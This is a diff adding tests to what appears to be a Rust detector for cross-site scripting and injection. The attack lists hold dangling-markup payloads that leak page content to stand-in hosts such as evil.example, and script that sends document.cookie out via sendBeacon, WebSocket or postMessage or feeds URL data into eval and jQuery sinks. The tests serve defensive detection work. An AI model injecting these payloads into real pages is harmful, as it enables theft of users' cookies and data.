@@ -970,7 +970,11 @@ fn judge(attacks: &[&str], benign: &[&str]) {
         assert!(hit(v), "missed {v:?}");
     }
     for v in benign {
-        assert!(!hit(v), "false positive {v:?}");
+        assert!(
+            !hit(v),
+            "false positive {v:?} {:?}",
+            detect(v, Context::Param)
+        );
     }
 }
 
@@ -1596,6 +1600,60 @@ fn inert_link_script_in_an_attribute_of_markup() {
             "<a href=\"javascript:void(0)\">Menu</a>",
             "<a href=\"javascript:void(0);\" class=\"btn\">Open</a>",
             "<a href='javascript:;'>x</a>",
+        ],
+    );
+}
+
+#[test]
+fn dangling_remote_url_attribute() {
+    judge(
+        &[
+            "\"><img src='//evil.com/log?",
+            "'><a href=\"https://evil.example/?",
+            "<img src=\"http://evil.example/c?t=",
+            "x\"><form><button formaction='//evil.example/",
+            "\"><table background='//evil.example/?",
+            "<a href='\\\\evil.example/x?",
+            "</textarea><img src=\"https://evil.example/?",
+        ],
+        &[
+            "<a href=\"https://example.com/\">x</a>",
+            "<a href=\"/search?q=",
+            "<img src='img/a.png",
+            "He said \"see https://example.com/ for details",
+            "<p title=\"https://example.com/?",
+            "</a href='//x.example/",
+            "<a href=\"https://example.com/\">link</a> and more text",
+            "There's a pattern here. Here's a video: <a href=\"https://www.youtube.com/watch?v=",
+            "Here's a video: <a href=\\x22https://www.youtube.com/watch?v=",
+        ],
+    );
+}
+
+#[test]
+fn page_source_into_a_sink() {
+    judge(
+        &[
+            "Function(name)()",
+            "$('body').html(location.hash.slice(1))",
+            "$(location.hash)",
+            "jQuery(decodeURIComponent(location.hash.substr(1)))",
+            "new WebSocket('//x').send(document.cookie)",
+            "postMessage(document.cookie,'*')",
+            "navigator.sendBeacon('//evil.example',document.cookie)",
+            "$('#x').append(window.location.search)",
+            "addEventListener('load',function(){eval(name)})",
+        ],
+        &[
+            "$('#id').hide()",
+            "use $(selector).html(content) to set the markup",
+            "window.addEventListener('load', init)",
+            "console.log(document.cookie)",
+            "encodeURIComponent(location.href)",
+            "$(name)",
+            "CFLAGS=$(name) make",
+            "the html(location) helper",
+            "postMessage(data, origin)",
         ],
     );
 }
